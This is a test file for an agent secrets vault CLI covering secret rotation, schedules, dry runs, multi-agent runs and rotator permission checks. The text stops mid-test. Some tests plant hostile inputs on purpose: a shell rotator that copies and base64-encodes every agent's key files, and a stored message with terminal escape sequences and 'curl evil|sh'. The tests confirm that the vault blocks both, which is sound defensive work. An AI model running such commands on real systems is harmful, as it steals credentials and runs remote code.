/**
 * `vault rotate`, `vault status`, `vault schedule` and `vault set --rotate` through the CLI
 * in-process (`run(argv, io)` with an injected clock), with real `command:` rotator processes
 * (test/fixtures/rotation/fake-provider-rotator.mjs): exit codes, --dry-run, --json, failures
 * and backoff, schedules, rollback, --all-agents, and no value in any output or the audit log.
 */
import { chmodSync, existsSync, mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import type { CliIo } from "../src/cli/io.js";
import { run } from "../src/cli/run.js";
import { deriveKeys, macWith } from "../src/crypto/derived-keys.js";
import { initCrypto } from "../src/crypto/sodium.js";
import { parseVaultFile, sealVaultFile, type VaultBody } from "../src/file-format/vault-file.js";
import { unlockWithSource } from "../src/keys/slots.js";
import { keyFileKey } from "../src/keys/sources.js";
import { type Canary, LeakSearch, makeCanaries } from "./fixtures/canary/leaks.js";
import {
  FakeProvider,
  hashOf,
  ROTATOR_PATH,
  ROTATOR_SPEC,
  serveRotators,
} from "./fixtures/rotation/provider.js";
import { type CliResult, runCli, tempDir } from "./helpers/cli.js";
import {
  prepareCliHome,
  readStoredAudit,
  readStoredVault,
  writeStoredVault,
} from "./helpers/test-store.js";

const cleanups: Array<() => void> = [];
afterAll(() => {
  for (const cleanup of cleanups) cleanup();
});

const DAY_MS = 86_400_000;
const MINUTE_MS = 60_000;
const T0 = new Date("2026-03-01T10:00:00.000Z");
const at = (ms: number) => new Date(T0.getTime() + ms);

/** A temp home with a fake provider, and the CLI run in-process at a clock the test sets. */
function world() {
  const dir = tempDir("agent-vault-rotation-cli-");
  cleanups.push(dir.cleanup);
  const home = join(dir.path, "home");
  const provider = new FakeProvider(dir.path);
  serveRotators(home);
  let clock = T0;
  const env = (extra: Record<string, string> = {}) => ({
    AGENT_VAULT_HOME: home,
    PATH: process.env.PATH ?? "/usr/bin:/bin",
    ...provider.env(extra),
  });
  const cli = (
    argv: string[],
    options: { env?: Record<string, string>; stdin?: string } = {},
  ): Promise<CliResult> =>
    runCli(argv, {
      env: env(options.env),
      now: () => clock,
      ...(options.stdin === undefined ? {} : { stdin: options.stdin }),
    });
  const keyFile = (agent: string) => join(dir.path, `${agent}.key`);
  return {
    dir: dir.path,
    home,
    provider,
    cli,
    env,
    keyFile,
    /** The stored vault (its file, or its row). */
    vaultBytes: async (agent = "main") => {
      const bytes = await readStoredVault(home, agent);
      if (!bytes) throw new Error(`no stored vault for ${agent}`);
      return bytes;
    },
    setClock(time: Date) {
      clock = time;
    },
    async init(agent = "main") {
      const result = await cli([
        "--agent",
        agent,
        "init",
        "--key-source",
        "keyfile",
        "--key-file",
        keyFile(agent),
      ]);
      expect(result.code, result.stderr).toBe(0);
    },
    /** `vault set NAME` with `value` on stdin and policy flags; the provider accepts the value. */
    async set(name: string, value: string, flags: string[], agent = "main") {
      provider.accept(name, value);
      const result = await cli(["--agent", agent, "set", name, ...flags], { stdin: value });
      expect(result.code, result.stderr).toBe(0);
    },
    async get(name: string, version?: number) {
      const argv = [
        "get",
        name,
        "-n",
        ...(version === undefined ? [] : ["--version", `${version}`]),
      ];
      const result = await cli(argv);
      expect(result.code, result.stderr).toBe(0);
      return result.stdout;
    },
  };
}

type World = ReturnType<typeof world>;

/** The CLI with an io that counts stdin reads and prompts (stdin is not a terminal). */
async function runTracked(argv: string[], env: Record<string, string>, stdin = "") {
  prepareCliHome(argv, env, process.cwd());
  const calls = { stdinReads: 0, prompts: 0 };
  let stdout = "";
  let stderr = "";
  const io: CliIo = {
    stdout: (text) => {
      stdout += text;
    },
    stderr: (text) => {
      stderr += text;
    },
    readStdin: async () => {
      calls.stdinReads += 1;
      return Buffer.from(stdin);
    },
    isTTY: false,
    promptHidden: async () => {
      calls.prompts += 1;
      throw new Error("no terminal");
    },
    env,
    cwd: process.cwd(),
    now: () => T0,
  };
  const code = await run(argv, io);
  return { code, stdout, stderr, calls };
}

const COMMAND = ["--rotator", ROTATOR_SPEC, "--rotator-timeout", "20"];
const fresh = (label: string) => `fk_${label}_${Math.random().toString(36).slice(2, 14)}`;

interface StatusJson {
  counts: Record<string, number>;
  secrets: Array<{
    name: string;
    state: string;
    dueAt: string;
    error?: { step: string; message: string };
    retryAt?: string;
    inProgress?: { step: string; attempts: number };
  }>;
}

async function statusOf(w: World, name: string) {
  const result = await w.cli(["status", "--json"]);
  expect(result.code, result.stderr).toBe(0);
  return (JSON.parse(result.stdout) as StatusJson).secrets.find((entry) => entry.name === name);
}

/** The current version number, from `vault history --json`. */
async function currentVersion(w: World, name: string): Promise<number> {
  const result = await w.cli(["history", name, "--json"]);
  expect(result.code, result.stderr).toBe(0);
  const { versions } = JSON.parse(result.stdout) as {
    versions: Array<{ version: number; current: boolean }>;
  };
  return versions.find((entry) => entry.current)?.version ?? 0;
}

describe("vault set and vault schedule with a rotation policy", () => {
  it("refuses a bad cron expression, time zone or rotator with exit 2 and the reason, before reading the value, and stores nothing", async () => {
    const w = world();
    await w.init();
    const value = fresh("never-read");
    const cases: Array<[string[], RegExp]> = [
      [["--rotate", "61 * * * *"], /Invalid cron expression/],
      [["--rotate", "0 3 * *"], /expected 5 fields, got 4/],
      [["--rotate", "0 3 1 * *", "--tz", "Mars/Olympus_Mons"], /Unknown time zone/],
      [["--rotate", "@monthly", "--rotator", "random:8"], /16 to 1024 bytes/],
      [["--rotate", "@monthly", "--rotator", "command:relative/rotator"], /absolute path/],
      [["--rotate", "@monthly", "--rotator", "Not A Rotator"], /not a known form/],
      [["--max-age", "30 days"], /Invalid maximum age/],
    ];
    for (const [flags, reason] of cases) {
      const result = await runTracked(["set", "API_KEY", ...flags], w.env(), value);
      expect(result.code, flags.join(" ")).toBe(2);
      expect(result.stderr, flags.join(" ")).toMatch(reason);
      expect(result.calls.stdinReads, `${flags.join(" ")}: the value was not read`).toBe(0);
      expect(result.stderr + result.stdout).not.toContain(value);
    }
    const list = await w.cli(["list", "--json"]);
    expect(JSON.parse(list.stdout).secrets).toEqual([]);
    const schedule = await w.cli(["schedule", "API_KEY", "--rotate", "0 3 * *"]);
    expect(schedule.code).toBe(2);
  });

  it("vault set --generate starts a secret from its random: rotator, without a terminal and without reading stdin", async () => {
    const w = world();
    await w.init();
    const made = await runTracked(
      [
        "set",
        "WEBHOOK_TOKEN",
        "--generate",
        "--rotate",
        "@monthly",
        "--rotator",
        "random:32:hex:whk_",
        "--json",
      ],
      w.env(),
    );
    expect(made.code, made.stderr).toBe(0);
    expect(made.calls).toEqual({ stdinReads: 0, prompts: 0 });
    const value = await w.get("WEBHOOK_TOKEN");
    expect(value).toMatch(/^whk_[0-9a-f]{64}$/);
    expect(made.stdout + made.stderr).not.toContain(value.slice(4, 12));
    const again = await w.cli(["set", "WEBHOOK_TOKEN", "--generate"]);
    expect(again.code, again.stderr).toBe(0);
    expect(await w.get("WEBHOOK_TOKEN")).not.toBe(value);
    const none = await w.cli(["set", "OTHER", "--generate", "--max-age", "30d"]);
    expect(none.code).toBe(2);
    expect(none.stderr).toContain("--rotator random:32");
  });

  it("metadata options alone change an existing secret's metadata without asking for its value or making a version, and merge the policy", async () => {
    const w = world();
    await w.init();
    const value = fresh("kept");
    await w.set("API_KEY", value, ["--rotate", "0 3 1 * *", "--rotator", "random:32"]);
    // On a terminal: no prompt.
    const onTty = await runCli(["set", "API_KEY", "--max-age", "30d", "--tag", "prod"], {
      env: w.env(),
      prompts: [],
      now: () => T0,
    });
    expect(onTty.code, onTty.stderr).toBe(0);
    expect(onTty.stdout).toContain("its value is unchanged (version 1)");
    // Piped with nothing on stdin (cron, scripts): the same.
    const piped = await runTracked(["set", "API_KEY", "--env", "OPENAI_KEY"], w.env(), "");
    expect(piped.code, piped.stderr).toBe(0);
    expect(await w.get("API_KEY")).toBe(value);
    expect(await currentVersion(w, "API_KEY")).toBe(1);
    const list = JSON.parse((await w.cli(["list", "--json"])).stdout) as {
      secrets: Array<{ env?: string; tags: string[]; rotation?: Record<string, unknown> }>;
    };
    expect(list.secrets[0]).toMatchObject({ env: "OPENAI_KEY", tags: ["prod"] });
    expect(list.secrets[0]?.rotation).toMatchObject({
      schedule: "0 3 1 * *",
      maxAge: "30d",
      rotator: "random:32",
    });
    // A new secret still needs its value.
    const missing = await runTracked(["set", "NEW_ONE", "--tag", "prod"], w.env(), "");
    expect(missing.code).toBe(3);
  });

  it("vault schedule sets and clears a policy without changing the value", async () => {
    const w = world();
    await w.init();
    const value = fresh("kept");
    await w.set("API_KEY", value, []);
    const set = await w.cli([
      "schedule",
      "API_KEY",
      "--rotate",
      "0 3 1 * *",
      "--tz",
      "Europe/Paris",
      ...COMMAND,
    ]);
    expect(set.code, set.stderr).toBe(0);
    expect(set.stdout).toContain("Rotation of API_KEY: '0 3 1 * *' Europe/Paris");
    const status = await statusOf(w, "API_KEY");
    expect(status?.state).toBe("ok");
    expect(status?.dueAt).toBe("2026-04-01T01:00:00.000Z"); // 03:00 on April 1st in Paris (CEST)
    expect(await w.get("API_KEY")).toBe(value);
    expect(await currentVersion(w, "API_KEY")).toBe(1);
    const cleared = await w.cli(["schedule", "API_KEY", "--clear"]);
    expect(cleared.code, cleared.stderr).toBe(0);
    expect(await statusOf(w, "API_KEY")).toBeUndefined();
  });
});

describe("vault rotate", () => {
  /** API_KEY (command rotator) and TOKEN (random) due, MANUAL due without rotator, LATER not due. */
  async function dueWorld() {
    const w = world();
    await w.init();
    await w.set("API_KEY", fresh("api"), ["--max-age", "30d", ...COMMAND]);
    await w.set("TOKEN", fresh("token"), ["--max-age", "30d", "--rotator", "random:32"]);
    await w.set("MANUAL", fresh("manual"), ["--max-age", "30d"]);
    w.setClock(at(20 * DAY_MS));
    await w.set("LATER", fresh("later"), ["--max-age", "30d", "--rotator", "random:32"]);
    w.setClock(at(30 * DAY_MS + 3_600_000)); // 1 h past due: due, not yet overdue
    return w;
  }

  it("rotates every due secret, reports the manual one, leaves the others, and exits 0", async () => {
    const w = await dueWorld();
    const before = await w.get("API_KEY");
    const result = await w.cli(["rotate"]);
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).toContain("rotated  API_KEY → version 2");
    expect(result.stdout).toContain("rotated  TOKEN → version 2");
    expect(result.stdout).toContain(
      "manual   MANUAL is due: no rotator: set a new value with `vault set MANUAL`.",
    );
    expect(result.stdout).not.toContain("LATER");
    expect(result.stdout).toContain(
      "vault rotate (agent main): 2 rotated, 0 failed, 1 due for manual rotation.",
    );
    const after = await w.get("API_KEY");
    expect(after).not.toBe(before);
    expect(w.provider.accepts("API_KEY", after)).toBe(true);
    expect(w.provider.accepts("API_KEY", before)).toBe(true); // keep 1: the previous stays valid
    expect(await currentVersion(w, "LATER")).toBe(1);
    expect(await currentVersion(w, "MANUAL")).toBe(1);
    expect((await statusOf(w, "MANUAL"))?.state).toBe("manual");
    const again = await w.cli(["rotate"]);
    expect(again.code).toBe(0);
    expect(again.stdout).toContain("0 rotated, 0 failed, 1 due for manual rotation");
  });

  it("prints a --json report: a summary and one outcome per secret, nothing on stderr", async () => {
    const w = await dueWorld();
    const result = await w.cli(["rotate", "--json"]);
    expect(result.code).toBe(0);
    expect(result.stderr).toBe("");
    const report = JSON.parse(result.stdout) as {
      summary: Record<string, number>;
      agents: Array<{ agent: string; outcomes: Array<Record<string, unknown>> }>;
    };
    expect(report.summary).toEqual({
      rotated: 2,
      failed: 0,
      manual: 1,
      busy: 0,
      waiting: 0,
      wouldRotate: 0,
      notDue: 0,
    });
    expect(report.agents).toHaveLength(1);
    expect(report.agents[0]?.agent).toBe("main");
    const outcomes = [...(report.agents[0]?.outcomes ?? [])].sort((a, b) =>
      String(a.name).localeCompare(String(b.name)),
    );
    expect(outcomes).toEqual([
      { name: "API_KEY", result: "rotated", version: 2 },
      {
        name: "MANUAL",
        result: "manual",
        message: "no rotator: set a new value with `vault set MANUAL`.",
      },
      { name: "TOKEN", result: "rotated", version: 2 },
    ]);
    const status = await w.cli(["status", "--json"]);
    const parsed = JSON.parse(status.stdout) as StatusJson & { agent: string };
    expect(parsed.agent).toBe("main");
    expect(parsed.counts).toEqual({ ok: 3, due: 0, overdue: 0, failing: 0, manual: 1 });
    expect(Object.keys(parsed.secrets[0] ?? {}).sort()).toEqual(
      ["ageSeconds", "dueAt", "lastRotatedAt", "name", "policy", "state"].sort(),
    );
  });

  it("--dry-run lists what would rotate and leaves the vault file byte for byte as it was", async () => {
    const w = await dueWorld();
    const bytes = await w.vaultBytes();
    const result = await w.cli(["rotate", "--dry-run"]);
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).toContain("would rotate  API_KEY");
    expect(result.stdout).toContain("would rotate  TOKEN");
    expect(result.stdout).toContain("2 would rotate, 0 rotated, 0 failed");
    expect((await w.vaultBytes()).equals(bytes)).toBe(true);
    expect(w.provider.log()).toEqual([]); // the rotator was not asked for anything
    const json = await w.cli(["rotate", "--dry-run", "--json"]);
    expect(JSON.parse(json.stdout).summary.wouldRotate).toBe(2);
    expect((await w.vaultBytes()).equals(bytes)).toBe(true);
    const real = await w.cli(["rotate"]);
    expect(real.stdout).toContain("2 rotated");
  });

  it("exits 4 without prompting when the vault needs a passphrase and stdin is not a terminal", async () => {
    const w = world();
    const passphrase = "correct horse battery staple";
    const unlocked = { ...w.env(), AGENT_VAULT_PASSPHRASE: passphrase };
    const init = await runTracked(
      ["init", "--key-source", "passphrase", "--kdf", "interactive"],
      unlocked,
    );
    expect(init.code, init.stderr).toBe(0);
    const set = await runTracked(
      ["set", "TOKEN", "--max-age", "1d", "--rotator", "random:32"],
      unlocked,
      fresh("token"),
    );
    expect(set.code, set.stderr).toBe(0);
    for (const argv of [["rotate"], ["status", "--check"]]) {
      const locked = await runTracked(argv, w.env());
      expect(locked.code, `${argv.join(" ")}: ${locked.stderr}`).toBe(4);
      expect(locked.calls.prompts, argv.join(" ")).toBe(0);
      expect(locked.stderr, argv.join(" ")).toContain(
        "No key source given for the vault of agent main.",
      );
    }
    // Over every agent, one that cannot be opened is a failure of the run (and not a prompt).
    const all = await runTracked(["rotate", "--all-agents"], w.env());
    expect(all.code).toBe(1);
    expect(all.calls.prompts).toBe(0);
    expect(all.stderr).toContain("FAILED   main: No key source given for the vault of agent main.");
    const withKey = await runTracked(["rotate"], unlocked);
    expect(withKey.code, withKey.stderr).toBe(0);
  });

  it("--all-agents rotates the due secrets of every agent, each opened with the key file it remembers", async () => {
    const w = world();
    await w.init("alpha");
    await w.init("beta");
    await w.set("TOKEN", fresh("alpha"), ["--max-age", "1d", "--rotator", "random:32"], "alpha");
    await w.set("API_KEY", fresh("beta"), ["--max-age", "1d", ...COMMAND], "beta");
    await w.set("TOKEN", fresh("beta"), ["--max-age", "7d", "--rotator", "random:32"], "beta");
    w.setClock(at(2 * DAY_MS));
    const result = await w.cli(["rotate", "--all-agents"]);
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).toContain("rotated  alpha/TOKEN → version 2");
    expect(result.stdout).toContain("rotated  beta/API_KEY → version 2");
    expect(result.stdout).toContain("vault rotate (2 agents): 2 rotated, 0 failed");
    const beta = await w.cli(["--agent", "beta", "history", "TOKEN"]);
    expect(beta.stdout).not.toContain("v2");
    const json = await w.cli(["rotate", "--all-agents", "--json"]);
    const report = JSON.parse(json.stdout) as { agents: Array<{ agent: string }> };
    expect(report.agents.map((agent) => agent.agent).sort()).toEqual(["alpha", "beta"]);
  });
});

/**
 * What any holder of an agent's key can do: rewrite its own vault with a valid MAC, content
 * and all, around every check `vault set` makes.
 */
async function rewriteOwnVault(w: World, agent: string, edit: (body: VaultBody) => void) {
  await initCrypto();
  const file = parseVaultFile(await w.vaultBytes(agent), agent);
  const { dataKey } = await unlockWithSource(file, keyFileKey(w.keyFile(agent)));
  const body = structuredClone(file) as VaultBody & { mac?: string; checksum?: string };
  delete body.mac;
  delete body.checksum;
  edit(body);
  body.generation += 1;
  await writeStoredVault(
    w.home,
    agent,
    Buffer.from(sealVaultFile(body, macWith(deriveKeys(dataKey, body))).bytes),
  );
}

/** A rotator script written into the test's folder, executable. */
function script(w: World, name: string, lines: string[]): string {
  const path = join(w.dir, name);
  writeFileSync(path, ["#!/usr/bin/env node", ...lines].join("\n"), { mode: 0o755 });
  chmodSync(path, 0o755);
  return path;
}

describe("rotators: the vault names one, the host chooses what runs", () => {
  it("a named rotator runs the command the host's rotators.json maps it to, with its arguments as given, without a shell, with the caller's environment minus AGENT_VAULT_*", async () => {
    const w = world();
    serveRotators(w.home, { "with-args": [ROTATOR_PATH, "two words", "$HOME", ";echo"] });
    await w.init();
    await w.set("API_KEY", fresh("api"), ["--max-age", "30d", "--rotator", "with-args"]);
    const result = await w.cli(["rotate", "API_KEY", "--force"], {
      env: {
        FAKE_MARKER: "passed",
        AGENT_VAULT_KEY_FILE: w.keyFile("main"),
        AGENT_VAULT_AGENT: "main",
      },
    });
    expect(result.code, result.stderr).toBe(0);
    const log = w.provider.log();
    expect(log.map((entry) => entry.step)).toEqual(["create", "apply", "verify", "finish"]);
    for (const entry of log) {
      expect(entry.argv).toEqual(["two words", "$HOME", ";echo"]);
      expect(entry.vaultEnv).toEqual([]);
      expect(entry.marker).toBe("passed");
    }
  });

  it("a command: rotator that one agent writes into its own vault runs nothing on the rotation host and stores nothing of the host's", async () => {
    const w = world();
    await w.init("alice");
    await w.init("bob");
    const bobsSecret = fresh("bob");
    await w.set("BOB_KEY", bobsSecret, [], "bob");
    const marker = join(w.dir, "host-was-owned");
    const loot = `cat ${w.dir}/*.key > ${marker}; printf '{"ok":true,"value":"%s"}' "$(base64 -w0 ${marker})"`;
    const harmless = fresh("harmless");
    // What the attacking agent writes: the library and the CLI still accept the older form.
    const set = await w.cli(
      [
        "--agent",
        "alice",
        "set",
        "HARMLESS_TOKEN",
        "--rotate",
        "* * * * *",
        "--rotator",
        `command:/bin/sh -c '${loot}'`,
      ],
      { stdin: harmless },
    );
    expect(set.code, set.stderr).toBe(0);
    expect(set.stderr).toContain("a host runs only the commands its own rotators.json names");
    w.setClock(new Date(T0.getTime() + 3_600_000));
    // The rotation host's normal cron run: every agent, with every agent's key.
    const cron = await w.cli(["rotate", "--all-agents", "--key-dir", w.dir]);
    expect(cron.code).toBe(1);
    expect(cron.stderr).toContain("alice/HARMLESS_TOKEN at step create");
    expect(cron.stderr).toContain("a host runs only the commands its own rotators.json names");
    expect(existsSync(marker), "the vault's command ran on the host").toBe(false);
    const get = await w.cli([
      "--agent",
      "alice",
      "--key-file",
      w.keyFile("alice"),
      "get",
      "HARMLESS_TOKEN",
      "-n",
    ]);
    expect(get.stdout).toBe(harmless);
    const history = await w.cli([
      "--agent",
      "alice",
      "--key-file",
      w.keyFile("alice"),
      "history",
      "HARMLESS_TOKEN",
      "--json",
    ]);
    expect((JSON.parse(history.stdout) as { versions: unknown[] }).versions).toHaveLength(1);
    const doctor = await w.cli(["doctor", "--key-dir", w.dir]);
    expect(doctor.code).toBe(1);
    expect(doctor.stdout).toContain(
      "agent alice rotator of HARMLESS_TOKEN: a command: spec this host does not run",
    );
    expect(doctor.stdout).toContain("add it to rotators.json");
  });

  it("a command: spec runs only when the host's rotators.json names that exact command; one argument more does not", async () => {
    const w = world();
    serveRotators(w.home, { legacy: [ROTATOR_PATH, "--region", "eu"] });
    await w.init();
    await w.set("ALLOWED", fresh("allowed"), [
      "--max-age",
      "30d",
      "--rotator",
      `command:${ROTATOR_PATH} --region eu`,
    ]);
    await w.set("NOT_ALLOWED", fresh("not"), [
      "--max-age",
      "30d",
      "--rotator",
      `command:${ROTATOR_PATH} --region eu --debug`,
    ]);
    const allowed = await w.cli(["rotate", "ALLOWED", "--force"]);
    expect(allowed.code, allowed.stderr).toBe(0);
    expect(w.provider.log().map((entry) => [entry.name, entry.step])).toEqual([
      ["ALLOWED", "create"],
      ["ALLOWED", "apply"],
      ["ALLOWED", "verify"],
      ["ALLOWED", "finish"],
    ]);
    const refused = await w.cli(["rotate", "NOT_ALLOWED", "--force"]);
    expect(refused.code).toBe(1);
    expect(w.provider.log().filter((entry) => entry.name === "NOT_ALLOWED")).toEqual([]);
    const doctor = await w.cli(["doctor"]);
    expect(doctor.stdout).toContain(
      'agent main rotator of ALLOWED: a command: spec, allowed because rotators.json names it "legacy"',
    );
    expect(doctor.stdout).toContain("vault schedule ALLOWED --agent main --rotator legacy");
  });

  it("a host rotator with an agents list rotates those agents' secrets only: another agent naming it gets nothing made for it", async () => {
    const w = world();
    serveRotators(w.home, { billing: { command: [ROTATOR_PATH], agents: ["bob"] } });
    await w.init("alice");
    await w.init("bob");
    const alices = fresh("alice");
    await w.set("API_KEY", alices, ["--max-age", "30d", "--rotator", "billing"], "alice");
    await w.set("API_KEY", fresh("bob"), ["--max-age", "30d", "--rotator", "billing"], "bob");
    const alice = await w.cli(["--agent", "alice", "rotate", "API_KEY", "--force"]);
    expect(alice.code).toBe(1);
    expect(alice.stderr).toContain("rotator billing of this host does not serve agent alice");
    expect(w.provider.log()).toEqual([]);
    expect(await w.cli(["--agent", "alice", "get", "API_KEY", "-n"])).toMatchObject({
      stdout: alices,
    });
    const bob = await w.cli(["--agent", "bob", "rotate", "API_KEY", "--force"]);
    expect(bob.code, bob.stderr).toBe(0);
    expect(w.provider.log().map((entry) => entry.step)).toEqual([
      "create",
      "apply",
      "verify",
      "finish",
    ]);
  });

  it("a name the host does not serve fails the rotation with what to add, runs nothing, and vault status says so", async () => {
    const w = world();
    await w.init();
    const value = fresh("api");
    const set = await w.cli(["set", "API_KEY", "--max-age", "30d", "--rotator", "stripe"], {
      stdin: value,
    });
    expect(set.code, set.stderr).toBe(0);
    expect(set.stderr).toContain("rotator stripe is not configured on this host");
    const status = await w.cli(["status"]);
    expect(status.stdout).toContain("rotator not served by this host");
    const result = await w.cli(["rotate", "API_KEY", "--force"]);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain("rotator stripe is not configured on this host");
    expect(await w.get("API_KEY")).toBe(value);
  });

  it("a rotators.json that another user can read or write, or that is malformed, stops vault rotate before anything runs", async () => {
    const w = world();
    await w.init();
    await w.set("API_KEY", fresh("api"), ["--max-age", "30d", ...COMMAND]);
    const path = serveRotators(w.home);
    chmodSync(path, 0o644);
    const open = await w.cli(["rotate", "API_KEY", "--force"]);
    expect(open.code).toBe(5);
    expect(open.stderr).toContain("chmod 600");
    writeFileSync(path, '{"rotators": {"x": {"command": ["relative"]}}}', { mode: 0o600 });
    chmodSync(path, 0o600);
    const relative = await w.cli(["rotate", "API_KEY", "--force"]);
    expect(relative.code).toBe(2);
    expect(relative.stderr).toContain("must be an absolute path");
    expect(w.provider.log()).toEqual([]);
  });

  it("a rotator answer of the wrong shape fails the step, saying which part, without printing it", async () => {
    const w = world();
    const canary = "canary-sk-live-9d2b".repeat(3);
    const answers = {
      "value-list": { ok: true, value: [canary] },
      "ok-string": { ok: "true", value: canary },
      "answer-list": [canary],
      "not-json": `${canary}{`,
    };
    const says = {
      "value-list": "the rotator's value is not a string.",
      "ok-string": "the rotator refused step create",
      "answer-list": "the rotator refused step create",
      "not-json": "the rotator's answer is not JSON.",
    };
    const programs = Object.fromEntries(
      Object.entries(answers).map(([name, answer]) => [
        name,
        [
          script(w, `${name}.mjs`, [
            `process.stdout.write(${JSON.stringify(typeof answer === "string" ? answer : JSON.stringify(answer))});`,
          ]),
        ],
      ]),
    );
    serveRotators(w.home, programs);
    await w.init();
    for (const name of Object.keys(answers) as (keyof typeof answers)[]) {
      const secret = `KEY_${name.toUpperCase().replace("-", "_")}`;
      const value = fresh(name);
      await w.set(secret, value, ["--max-age", "30d", "--rotator", name]);
      const result = await w.cli(["rotate", secret, "--force"]);
      expect(result.code, name).toBe(1);
      expect(result.stderr, name).toContain(says[name]);
      expect(result.stdout + result.stderr, name).not.toContain(canary);
      expect(await w.get(secret), name).toBe(value);
    }
  });

  it("a rotator program that users other than its owner can write is not run", async () => {
    const w = world();
    const program = script(w, "writable-rotator.mjs", [
      'console.log(JSON.stringify({ ok: true, value: "x".repeat(40) }));',
    ]);
    chmodSync(program, 0o777);
    serveRotators(w.home, { writable: [program] });
    await w.init();
    const value = fresh("api");
    await w.set("API_KEY", value, ["--max-age", "30d", "--rotator", "writable"]);
    const result = await w.cli(["rotate", "API_KEY", "--force"]);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain("can be written by a user other than you or root");
    expect(await w.get("API_KEY")).toBe(value);
  });

  it("a rotator program in a folder others can write, or a script an interpreter runs that others can write, is not run", async () => {
    const w = world();
    const shared = join(w.dir, "shared");
    mkdirSync(shared, { mode: 0o777 });
    chmodSync(shared, 0o777);
    const inShared = join(shared, "rotate.mjs");
    writeFileSync(inShared, 'console.log(JSON.stringify({ ok: true, value: "y".repeat(40) }));', {
      mode: 0o755,
    });
    const linked = join(w.dir, "linked-rotator");
    symlinkSync(inShared, linked);
    const script = join(w.dir, "script.mjs");
    writeFileSync(script, 'console.log(JSON.stringify({ ok: true, value: "z".repeat(40) }));', {
      mode: 0o666,
    });
    chmodSync(script, 0o666);
    serveRotators(w.home, {
      shared: [inShared],
      linked: [linked],
      interpreted: [process.execPath, script],
    });
    await w.init();
    for (const rotator of ["shared", "linked", "interpreted"]) {
      const value = fresh(rotator);
      await w.set(`KEY_${rotator.toUpperCase()}`, value, [
        "--max-age",
        "30d",
        "--rotator",
        rotator,
      ]);
      const result = await w.cli(["rotate", `KEY_${rotator.toUpperCase()}`, "--force"]);
      expect(result.code, rotator).toBe(1);
      expect(result.stderr, rotator).toContain("can be written by a user other than you or root");
      expect(await w.get(`KEY_${rotator.toUpperCase()}`), rotator).toBe(value);
    }
  });

  it("one agent's vault with a policy written around the checks fails its own secret only: the other agents rotate, doctor and status still answer", async () => {
    const w = world();
    await w.init("aaa-attacker");
    await w.init("zed-victim");
    await w.set("TOKEN", fresh("a"), ["--max-age", "1d", "--rotator", "random:32"], "aaa-attacker");
    await w.set("OTHER", fresh("a"), ["--max-age", "1d", "--rotator", "random:32"], "aaa-attacker");
    const victims = fresh("victim");
    await w.set("TOKEN", victims, ["--max-age", "1d", "--rotator", "random:32"], "zed-victim");
    await rewriteOwnVault(w, "aaa-attacker", (body) => {
      const token = body.secrets.find((secret) => secret.name === "TOKEN");
      const other = body.secrets.find((secret) => secret.name === "OTHER");
      if (token?.rotation) token.rotation = { ...token.rotation, rotator: "Not A Rotator" };
      if (other?.rotation)
        other.rotation = { ...other.rotation, schedule: "0 3 * * *", timezone: "Mars/Olympus" };
    });
    w.setClock(new Date(T0.getTime() + 2 * 86_400_000));
    const cron = await w.cli(["rotate", "--all-agents", "--key-dir", w.dir, "--json"]);
    expect(cron.code).toBe(1);
    const report = JSON.parse(cron.stdout) as {
      agents: Array<{ agent: string; outcomes: Array<{ name: string; result: string }> }>;
    };
    const victim = report.agents.find((entry) => entry.agent === "zed-victim");
    expect(victim?.outcomes).toEqual([
      expect.objectContaining({ name: "TOKEN", result: "rotated" }),
    ]);
    const attacker = report.agents.find((entry) => entry.agent === "aaa-attacker");
    expect(attacker?.outcomes.map((outcome) => outcome.result)).toEqual(["failed", "failed"]);
    const doctor = await w.cli(["doctor", "--key-dir", w.dir]);
    expect([0, 1]).toContain(doctor.code);
    expect(doctor.stdout).toContain(
      "agent aaa-attacker rotator of TOKEN: the stored rotator is not valid",
    );
  });

  it("vault status prints no control characters a vault holds (terminal escape sequences)", async () => {
    const w = world();
    await w.init();
    await w.set("TOKEN", fresh("t"), ["--max-age", "30d", "--rotator", "random:32"]);
    await rewriteOwnVault(w, "main", (body) => {
      const [token] = body.secrets;
      if (token) {
        token.journal = {
          attempts: 1,
          error: {
            at: T0.toISOString(),
            message: "\u001b]2;owned\u0007\u001b[31mFAKE: run curl evil|sh",
            step: "apply",
          },
          id: "A".repeat(22),
          retryAt: T0.toISOString(),
          startedAt: T0.toISOString(),
          step: "started",
        };
      }
    });
    const status = await w.cli(["status"]);
    expect(status.stdout).toContain("FAKE: run curl evil|sh");
    expect([...status.stdout].filter((char) => char < " " && char !== "\n")).toEqual([]);
  });

  it("a failing rotator's message, stored unencrypted in the journal, keeps no run of 8 characters of the current, pending or new value", async () => {
    const w = world();
    const chatty = script(w, "chatty-rotator.mjs", [
      'let input = ""; for await (const chunk of process.stdin) input += chunk;',
      "const request = JSON.parse(input);",
      'if (request.step === "create") console.log(JSON.stringify({ ok: true, value: "new-" + request.current.slice(3) }));',
      "else console.log(JSON.stringify({ ok: false, message: 'provider rejected key ' + request.pending.slice(0, 20) + ', current ' + request.current.slice(2, 22) + ' x' }));",
    ]);
    serveRotators(w.home, { chatty: [chatty] });
    await w.init();
    const value = `sk_live_${"Q7wErTy9UiOp3AsDfGh".repeat(2)}`;
    await w.set("API_KEY", value, ["--max-age", "30d", "--rotator", "chatty"]);
    const result = await w.cli(["rotate", "API_KEY", "--force"]);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain("provider rejected key [redacted]");
    const pending = `new-${value.slice(3)}`;
    const stored = Buffer.from(await w.vaultBytes()).toString("utf8");
    const outputs = [
      result.stderr,
      stored,
      (await w.cli(["status"])).stdout,
      (await w.cli(["status", "--json"])).stdout,
    ];
    for (const secret of [value, pending]) {
      for (let at = 0; at + 8 <= secret.length; at++) {
        const run8 = secret.slice(at, at + 8);
        for (const output of outputs) expect(output, run8).not.toContain(run8);
      }
    }
  });

  it("a step past its time limit is killed, fails the rotation and leaves CURRENT", async () => {
    const w = world();
    await w.init();
    const value = fresh("api");
    await w.set("API_KEY", value, [
      "--max-age",
      "30d",
      "--rotator",
      ROTATOR_SPEC,
      "--rotator-timeout",
      "1",
    ]);
    const started = Date.now();
    const result = await w.cli(["rotate", "API_KEY", "--force"], {
      env: { FAKE_SLEEP_STEP: "apply", FAKE_SLEEP_MS: "20000" },
    });
